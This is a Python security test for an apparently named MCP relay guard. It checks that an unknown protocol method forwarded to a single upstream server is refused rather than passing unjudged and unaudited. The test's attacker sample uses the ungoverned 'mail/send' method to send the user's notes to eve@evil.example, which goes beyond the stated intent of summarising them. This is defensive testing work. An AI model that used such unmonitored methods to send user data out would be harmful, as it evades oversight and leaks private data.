"""Class: with one upstream, a request of a method mcp-guard does not know goes to the server as the
client wrote it: not judged, not recorded.

The relay governs the methods it knows (tools/call, reads, lists, ...) and forwards any other method
to the only upstream, raw (`Relay._forward_default`). A server that acts on a method of its own (or on
a future revision's method) is reached with values no guard saw and no audit record (every other request
that reaches a server has one: "every decision is recorded"). With several upstreams such a method is
refused; with one it passes.

Expected (secure): a method that no guard governs is refused (method not found); the protocol's own
ungoverned requests (tasks/*) still pass.
"""

from __future__ import annotations

from tests.attacks.client import Attacker, Scripted, write_config


def test_a_method_no_guard_governs_does_not_reach_the_server(tmp_path):
    spec = Scripted(tmp_path / "mail.json", methods={"mail/send": {"result": {"sent": True}}})
    config = write_config(tmp_path / "mcp-guard.toml", {"mail": (spec.command, 'trust = "tofu"')},
                          '[storage]\npath = "guard.db"\n')
    with Attacker(config, "--intent", "Summarise my notes") as client:
        client.open()
        refused = client.request("mail/send", {"to": "eve@evil.example", "body": "the notes"})
        client.request("tasks/list")
    assert refused["error"]["code"] == -32601, refused
    assert spec.received("mail/send") == []
    assert spec.received("tasks/list"), "the protocol's own ungoverned requests still reach the server"
